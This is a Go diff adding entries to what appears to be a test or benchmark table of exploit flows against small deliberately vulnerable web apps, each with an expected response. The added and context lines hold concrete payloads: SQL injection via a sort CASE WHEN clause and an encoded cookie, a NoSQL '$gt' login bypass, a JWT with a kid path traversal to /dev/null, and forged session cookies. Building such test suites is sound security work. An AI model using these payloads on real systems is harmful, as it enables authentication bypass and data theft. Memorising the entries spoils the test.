@@ -21,6 +21,12 @@ var fourth = []flow{
 		{"/", "sql", "weak", "- [X-Forwarded-For: 9'OR'1'='1] GET / => already voted"}}},
 	{"ceramics", "python", pairs, "form / potter word", "mika:Glaze-1250", "", []step{
 		{"/me", "sql", "weak", "mika POST /me about=q7',title='curator ; mika GET /me => <small>curator"}}},
+	{"sundial", "python", pairs, "", "-", "", []step{
+		{"/api/dials/search", "sql", "weak", `- POST /api/dials/search {"text":"","sort":{"by":"CASE WHEN maker='Habermel' THEN 0 ELSE 1 END","dir":"asc"}} => ^200(?s).*"dials": ?\[\s*\{\s*"maker": ?"Habermel"`}}},
+	{"libretto", "python", pairs, "", "-", "", []step{
+		{"/**", "sql", "weak", "- [Cookie: gouts=eyJnZW5yZSI6IngnT1InMSc9JzEifQ==] GET / => Reine des Neiges"}}},
+	{"vineyard", "node", pairs, "", "-", "", []step{
+		{"/podrum/prijava", "nosql", "weak", `- POST /podrum/prijava {"user":{"$gt":""},"pin":{"$gt":""}} => Barrel 9`}}},
 	{"fishmarket", "node", pairs, "", "-", "", []step{
 		{"/fish", "nosql", "weak", "- GET /fish?kind=x'%7C%7C'1'=='1 => for the mayor"}}},
 
@@ -113,6 +119,8 @@ var fourth = []flow{
 		{"/workshop.php", "continue", "weak", "- GET /workshop.php => Lady Byrne"}}},
 	{"notaries", "node", pairs, "json /api/entrar utilizador senha", "rita.f:Selo-Branco-5", "", []step{
 		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJub21lIjoicTciLCJwYXBlbCI6Im5vdGFyaW8iLCJleHAiOjQxMDI0NDQ4MDB9.XLbbDtELpJOKuv1rnosCYQ7bcLVhlgEI8-bthSQ9oDo] GET /api/testamentos => o gato"}}},
+	{"lighthouse", "python", pairs, "form /entrar usuario chave", "iria:Percebe-no-mar3", "", []step{
+		{"/**", "jwt", "weak", "- [Cookie: faro={jwt}] GET /lampada => porta 1853"}}},
 	{"planetarium", "python", pairs, "form /seat user word", "visitor:Perseid-12", "", []step{
 		{"/**", "tamper", "weak", "- [Cookie: session=eyJ1c2VyIjoicTciLCJyb2xlIjoicHJvamVjdGlvbmlzdCJ9.ZVPxAA.p-1TFv3xbt0hGR_z9DOBv5lqMp8] GET /booth => 4-4-1-9"}}},
 
